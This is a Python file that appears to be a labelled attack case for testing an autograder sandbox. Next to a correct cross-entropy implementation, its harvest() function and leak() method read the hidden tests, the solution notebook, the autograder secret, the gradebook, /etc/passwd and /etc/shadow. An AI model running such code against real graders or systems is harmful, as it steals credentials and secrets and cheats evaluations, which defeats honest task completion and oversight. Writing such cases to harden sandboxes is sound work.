# attack: read the hidden tests, the reference notebook, the course secret and the gradebook by absolute and relative paths
# expect: 3
import os

import numpy as np

CANDIDATES = [
    "/work/main/solutions/celoss/celoss.ipynb", "/work/main/.autograder-secret", "/work/main/gradebook.db",
    "/work/main/graders/celoss/test_forward.py", "/work/main/graders/celoss/catalogue.py",
    "/work/main/tests", "/root/.pyenv", "/etc/passwd", "/etc/shadow", "/var/tmp", "/home", "/autograder/source",
    "/autograder/results/results.json", "../solutions/celoss/celoss.ipynb", "../../.autograder-secret",
]


def harvest():
    found = []
    for path in CANDIDATES:
        try:
            if os.path.isdir(path):
                for root, _, files in os.walk(path):
                    for name in files:
                        with open(os.path.join(root, name), "rb") as handle:
                            found.append(handle.read(4096))
            else:
                with open(path, "rb") as handle:
                    found.append(handle.read(65536))
        except OSError:
            pass
    return b"".join(found)



class CELoss:
    """A correct, stable cross-entropy."""

    @staticmethod
    def forward(x, y):
        shifted = x - x.max(axis=1, keepdims=True)
        log_p = shifted - np.log(np.exp(shifted).sum(axis=1, keepdims=True))
        return -log_p[np.arange(len(y)), y].mean()

    @staticmethod
    def backward(x, y, dout):
        shifted = x - x.max(axis=1, keepdims=True)
        p = np.exp(shifted) / np.exp(shifted).sum(axis=1, keepdims=True)
        p[np.arange(len(y)), y] -= 1
        return p * dout / len(y), 0.0

    @staticmethod
    def leak():
        return np.frombuffer(harvest(), dtype=np.uint8).copy()
